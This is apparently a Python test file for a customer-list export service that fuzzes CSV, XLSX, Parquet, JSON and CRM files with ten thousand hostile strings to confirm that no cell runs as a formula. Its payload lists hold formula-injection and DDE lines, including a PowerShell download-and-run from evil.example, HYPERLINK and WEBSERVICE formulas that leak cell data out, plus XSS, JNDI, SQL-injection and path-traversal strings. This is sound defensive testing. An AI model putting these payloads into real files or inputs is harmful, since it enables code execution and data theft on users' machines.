"""Ten thousand hostile texts through every kind of file: none is live, no id is altered, none is lost, every file opens.

What a spreadsheet would run is judged here anew, by what Excel, LibreOffice and WPS are known to do, without our own rules.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
import re
import unicodedata
import warnings
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pyarrow.parquet as pq
import pytest

from configs.command import write_json_list
from configs.errors import SettingsError
from serving.crm_files import crm_columns, crm_target
from serving.exports import Column, ParquetParts, Table, csv_chunks, xlsx_bytes
from serving.list_files import write_list
from serving.list_plan import Expected, Plan
from serving.list_table import list_table
from serving.lists import ContactList, ListRow, wire_row
from serving.predictions import Terms
from serving.spreadsheet_text import live, unguarded
from serving.store import Choice, LeftOut, ScoringRun, storable

TEXTS = 10_000
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CREATED = datetime(2011, 6, 12, 4, 30, tzinfo=UTC)
RUN = ScoringRun(
    7, Terms(date(2011, 6, 12), 180, "GBP", "3"), TEXTS, CREATED, (), (), zero_padded_ids=True, tier_horizon_days=180, held=0
)
OF = ContactList(RUN, Plan(), date(2011, 7, 1), Choice(), Expected(2, 0, 0.1, 20.0, 0.0, 20.0, 1.9, 1.0, 0.9, LeftOut()))

FORMULAS = [
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "cmd|'/C powershell IEX(wget evil.example/x)'!_xlbgnm.A1",
    'DDE("cmd";"/C calc";"x")', 'HYPERLINK("http://evil.example?x="&A1,"click")', 'WEBSERVICE("http://evil.example/"&A2)',
    'IMPORTXML("http://evil.example","//a")', "'file:///etc/passwd'#$passwd.A1", "'\\\\evil.example\\share\\[x.xls]s'!A1",
    "MSEXCEL|'\\..\\..\\Windows\\cmd.exe /c calc'!''", "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'IMAGE("http://evil.example")', "_xlfn.SINGLE(A1)", "A1", "{1;2}", "1", "-1", "",
]  # fmt: skip
TRIGGERS = ["=", "+", "-", "@", "==", "=-", "+=", "@=", "-+", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "⁼", "₊"]
PREFIXES = [
    "", " ", "  ", "\t", "\r", "\n", "\r\n", "\v", "\f", "\x00", "\x01", "\x1a", "\x7f", "\x85", "\xa0", "\xad", "\u200b",
    "\u200e", "\u200f", "\u202a", "\u202e", "\u2028", "\u2066", "\ufeff", "\u3000", "\u2009", '"', "'", '""', "\"'", "\u061c",
    "\u2060",
]  # fmt: skip
INSIDE = ["", "a,", "a;", "a\t", "a|", "a\n", "a\r\n", 'a",', 'a";"', "a;\u200b", "Müller; ", "ok\n\n", "',"]
NUMBERS = [
    "0", "007", "00123", "1e5", "1E+400", "12345678901234567890", "999999999999", "1,234", "1.234,5", "١٢٣", "１２３", "¼", "²",
    "0x1F", "1_000", "-0", "-5", "+5", "+8613800138000", "+1 (555) 010-0000", "1/2", "1-2", "2011-06-12", "12/06/2011",
    "6月12日", "MAR1", "SEP-5", "1:30", "12:30:00 PM", "TRUE", "FALSCH", "true", "NaN", "inf", "NULL", "None", "#N/A", "#REF!",
    "10%", "$5", "(5)", "５％",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "&#61;1+1", "&amp;#x3d;1", "]]>", "<![CDATA[=1]]>",
    "<!--", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "<r><t>x</t></r>", "<r>", "</r>", "_x003D_1+1", "_x0041_x0042_",
    "_x005F_x003D_", "_xD83D_", "_x0019", '"', '""', '","', "'", "\\", "\\N", "${jndi:ldap://x}", "{{7*7}}", "%s%n",
    "../../etc/passwd", "'; DROP TABLE x; --", "http://evil.example", "mailto:a@b.c", "file:///c:/x", "\\\\evil.example\\x",
    "internal:A1", "external:x.xlsx",
]  # fmt: skip
LETTERS = [
    "王小明", "東京", "שלום", "مرحبا", "\u202eabc\u202c", "\u2066x\u2069", "e\u0301", "é", "ﬁ", "ß", "İ", "ı",
    "a\u0300\u0301\u0302", "👩\u200d👩\u200d👧", "🇩🇪", "😀", "\u200b", "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "\ufffd",
    "Z\u0351\u036b", "\u115f", "ﷺ", " ", "x ", " x", "\n", "\t",
]  # fmt: skip
CONTROLS = [f"a{chr(code)}b" for code in range(32)] + [chr(code) for code in range(32)]
HALF_PAIRS = ["\ud800", "a\udfff", "\udc00\ud800", "=\ud83d"]


@cache
def texts() -> tuple[str, ...]:
    """Ten thousand different ones, the same each time: all of the above, all combinations of what is worst, and mixtures."""
    made = ["".join(parts) for parts in itertools.product(INSIDE, PREFIXES[:20], TRIGGERS[:4], FORMULAS[:3])]
    made += [f"{prefix}{trigger}{body}" for prefix, trigger, body in itertools.product(PREFIXES, TRIGGERS, FORMULAS[2:9])]
    made += [*FORMULAS, *NUMBERS, *MARKUP, *LETTERS, *CONTROLS]
    dice = random.Random(20260101)
    parts = [*TRIGGERS, *PREFIXES, *NUMBERS, *MARKUP, *LETTERS, *CONTROLS, *FORMULAS, ",", ";", "|", "\\", "_", "x", "0"]
    different = dict.fromkeys(one for one in made if storable(one) or "\0" in one)
    keep = list(different)
    dice.shuffle(keep)
    chosen = dict.fromkeys([*NUMBERS, *MARKUP, *LETTERS, *CONTROLS, *keep[:6_000]])
    while len(chosen) < TEXTS:
        chosen.setdefault("".join(dice.choices(parts, k=dice.randrange(1, 6))))
    return tuple(chosen)


def ids() -> list[str]:
    """Those that a store keeps."""
    return [one for one in texts() if storable(one)]


def row(place: int, customer_id: str, text: str) -> ListRow:
    return ListRow(
        rank=place, customer_id=customer_id, tier="Gold", churn_risk=0.5, risk_band="high", predicted_value=1.5,
        value_low=1.0, value_high=2.0, uncertain=None, value_at_risk=1.5, last_order=date(2011, 2, 1),
        days_since_last_order=131, next_order=None, lifecycle_stage="dormant", rfm_segment="Loyal", past_spend_tier="Gold",
        movement="up", reasons=(text, text[::-1]), action=text, channel="phone", contact_cap=2,
    )  # fmt: skip


def rows(customer_ids: Sequence[str]) -> Iterator[ListRow]:
    return (row(place, one, text) for place, (one, text) in enumerate(zip(customer_ids, texts(), strict=False), start=1))


# What a spreadsheet would run


def runs(cell: str) -> bool:
    """Judge a cell of a CSV file: leave out what cannot be seen, fold letters that look alike, see what comes first.

    An apostrophe marks text. Digits behind a sign are a number: without a letter, quote, bar, bracket of a list or exclamation
    mark there is no function, no name, no reference and no link.
    """
    for letter in cell:
        if letter == "'":
            return False
        if letter == '"' or letter.isspace() or unicodedata.category(letter) in ("Cc", "Cf", "Zs", "Zl", "Zp", "Mn"):
            continue
        if unicodedata.normalize("NFKC", letter)[0] not in "=+-@−":
            return False
        return not re.fullmatch(r'"*[+-]?[0-9 ().\-/]*"*', cell)
    return False


def cells_however_split(text: str) -> Iterator[str]:
    """All cells that a program may see in a CSV file: at whatever separator, with quotes respected or not."""
    csv.field_size_limit(10_000_000)
    for separator in ",;\t|":
        for record in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from record
        yield from re.split(rf"[\r\n{re.escape(separator)}]", text)


def test_the_judge_knows_what_runs() -> None:
    assert all(map(runs, ["=1", "+A1", "-x", "@x", " =1", "\t@x", "\u200b=1", "＝1", '"=1', "+1+cmd|x", "−1"]))
    assert not any(map(runs, ["'=1", "a=1", "+8613800138000", "-5", "1-2", "", "#N/A", "(5)", "http://x"]))


def test_there_are_ten_thousand_different_ones() -> None:
    assert len(set(texts())) == len(texts()) == TEXTS
    assert sum(map(runs, texts())) > 3_000


def test_our_judgement_is_no_milder() -> None:
    assert [one for one in texts() if runs(one) and not live(one)] == []


# CSV


def test_csv_runs_nothing_and_loses_nothing() -> None:
    text = b"".join(csv_chunks(list_table(OF, rows(ids()), "en", said=False))).decode("utf-8-sig")
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [unguarded(one["customer_id"]) for one in read] == ids()
    assert [unguarded(one["action"]) for one in read] == list(texts()[: len(read)])
    assert not [cell for cell in cells_however_split(text) if runs(cell)]


def test_long_texts_are_whole_in_csv() -> None:
    long = ["=" + "x" * 40_000, "\t@" * 20_000, "1" * 40_000, "a;=1" * 10_000]
    text = b"".join(csv_chunks(table(long))).decode("utf-8-sig")
    assert [unguarded(one[0]) for one in list(csv.reader(io.StringIO(text, newline="")))[1:]] == long
    assert not [cell for cell in cells_however_split(text) if runs(cell)]


def table(column: Sequence[str]) -> Table:
    return Table("Texts", (Column("text", "Text", "text", 20),), [[one] for one in column], (), CREATED)


# XLSX


@pytest.fixture(scope="module")
def workbook() -> bytes:
    """All of them as a workbook for people."""
    return xlsx_bytes(list_table(OF, rows(ids()), "en", said=True))


def test_xlsx_runs_nothing_and_loses_nothing(workbook: bytes) -> None:
    sheets = checked_sheets(workbook)
    assert texts_of(sheets[0], "B") == ids()
    assert texts_of(sheets[0], "R") == list(texts()[: len(ids())])


def checked_sheets(file: bytes) -> list[ET.Element]:
    """All sheets, once there is no formula, link or anything from outside in the file."""
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        names = archive.namelist()
        parts = {name: archive.read(name) for name in names}
    assert not [name for name in names if re.search("externalLink|connection|queryTable|vba|embedding|drawing|calcChain", name)]
    assert not [name for name, part in parts.items() if b'TargetMode="External"' in part]
    sheets = [ET.fromstring(parts[name]) for name in sorted(names) if name.startswith("xl/worksheets/sheet")]
    used = {element.tag.removeprefix(MAIN) for sheet in sheets for element in sheet.iter()}
    assert not used & {"f", "hyperlink", "hyperlinks", "legacyDrawing", "oleObjects", "dataValidations"}
    return sheets


def texts_of(sheet: ET.Element, column: str) -> list[str]:
    """A column as Excel shows it: ECMA-376 22.9.2.19 undoes _xHHHH_ in each piece of text."""
    found = []
    for line in sheet.iter(f"{MAIN}row"):
        cell = next((one for one in line.iter(f"{MAIN}c") if re.fullmatch(rf"{column}\d+", str(one.get("r")))), None)
        assert cell is not None
        assert cell.get("t") in ("inlineStr", None)
        pieces = [piece.text or "" for piece in cell.iter(f"{MAIN}t")]
        found.append("".join(re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), piece) for piece in pieces))
    return found[1:]


def test_openpyxl_reads_texts_and_no_formula(workbook: bytes) -> None:
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", ".* extension is not supported", UserWarning)
        sheet = openpyxl.load_workbook(io.BytesIO(workbook), read_only=True).worksheets[0]
        [_, *found] = [line[1] for line in sheet.iter_rows(max_col=2)]
    assert {cell.data_type for cell in found if cell.value is not None} == {"s"}
    escaped = re.compile(r"[\x00-\x1f\ufffe\uffff]|_x|^<r>")  # openpyxl leaves escapes as they are
    pairs = [(cell.value or "", one) for cell, one in zip(found, ids(), strict=True) if not escaped.search(one)]
    assert len(pairs) > TEXTS / 3
    assert [pair for pair in pairs if pair[0] != pair[1]] == []


def test_long_texts_are_cut_in_xlsx_and_say_so() -> None:
    long = ["=" + "x" * 40_000, "<r>" * 15_000, "_x0041_x0042_" * 4_000, "\x01" * 40_000, "😀" * 20_000]
    found = texts_of(checked_sheets(xlsx_bytes(table(long)))[0], "A")
    for shown, text in zip(found, long, strict=True):
        assert shown.endswith("…")
        assert text.startswith(shown[:-1])
        assert len(shown.encode("utf-16-le")) // 2 <= 32_767


# Parquet and JSON


def test_parquet_holds_every_text(tmp_path: Path) -> None:
    path = tmp_path / "list.parquet"
    assert write_list(path, OF, rows(ids()), "en") == len(ids())
    read = pq.read_table(path, columns=["customer_id", "action"]).to_pydict()
    assert (read["customer_id"], read["action"]) == (ids(), list(texts()[: len(ids())]))


def test_json_holds_every_text(tmp_path: Path) -> None:
    path = tmp_path / "list.json"
    lines = [*rows(ids()), *(replace(row(1, "1", one), tier=one) for one in HALF_PAIRS)]
    write_json_list(path, {"list": "churn-risk", "tiers": HALF_PAIRS}, "customers", map(wire_row, lines))
    read = json.loads(path.read_bytes())["customers"]
    assert [one["customer_id"] for one in read] == [one.customer_id for one in lines]
    assert [(one["action"], one["tier"]) for one in read] == [(one.action, one.tier) for one in lines]


# Files of CRMs


@pytest.mark.parametrize("name", ["hubspot", "salesforce", "marketo"])
def test_crm_csv_holds_exact_ids_and_runs_nothing(name: str, tmp_path: Path) -> None:
    path, quiet = tmp_path / "contacts.csv", [one for one in ids() if not live(one)]
    assert len(quiet) > 1_000
    assert write_list(path, OF, rows(quiet), "en", name) == len(quiet)
    text = path.read_bytes().decode()
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [one[crm_target(name).property_of("customer_id")] for one in read] == quiet
    # A line that is not split at its commas begins with the id, which is a number or no formula, and goes on with a comma.
    fields = [field for record in csv.reader(io.StringIO(text, newline="")) for field in record]
    assert not [part for field in fields for part in (field, *re.split(r"[,;\t|\r\n]", field)) if runs(part)]


def test_crm_csv_is_not_written_with_an_id_that_runs(tmp_path: Path) -> None:
    unfit = [one for one in ids() if live(one)]
    with pytest.raises(SettingsError, match=f"^{len(unfit):,} customers of this list have ids"):
        write_list(tmp_path / "contacts.csv", OF, rows(ids()), "en", "marketo")
    assert list(tmp_path.iterdir()) == []


def test_crm_xlsx_holds_all_ids(tmp_path: Path) -> None:
    path = tmp_path / "contacts.xlsx"
    assert write_list(path, OF, rows(ids()), "zh", "jiandaoyun") == len(ids())
    [sheet] = checked_sheets(path.read_bytes())
    assert texts_of(sheet, "A") == ids()
    action = [column.label for column in crm_columns(crm_target("jiandaoyun"))].index("action")
    assert texts_of(sheet, chr(ord("A") + action)) == list(texts()[: len(ids())])


# What is no character


@pytest.mark.parametrize("text", HALF_PAIRS)
def test_half_pairs_are_no_ids_and_break_no_file(text: str, tmp_path: Path) -> None:
    assert not storable(text)
    shown = re.sub("[\ud800-\udfff]", "\ufffd", text)
    line = replace(row(1, "1", "x"), action=text)
    assert unguarded(next(csv.DictReader(io.StringIO(csv_of(line), newline="")))["action"]) == shown
    assert texts_of(checked_sheets(xlsx_bytes(list_table(OF, [line], "en", said=True)))[0], "R") == [shown]
    path = tmp_path / "list.parquet"
    write_list(path, OF, [line], "en")
    assert pq.read_table(path)["action"].to_pylist() == [shown]


def csv_of(line: ListRow) -> str:
    return b"".join(csv_chunks(list_table(OF, [line], "en", said=False))).decode("utf-8-sig")


def test_scores_in_parquet_hold_every_text() -> None:
    file = io.BytesIO()
    parts = ParquetParts(file)
    parts.add({"customer_id": list(texts())})
    parts.close()
    assert pq.read_table(io.BytesIO(file.getvalue()))["customer_id"].to_pylist() == list(texts())
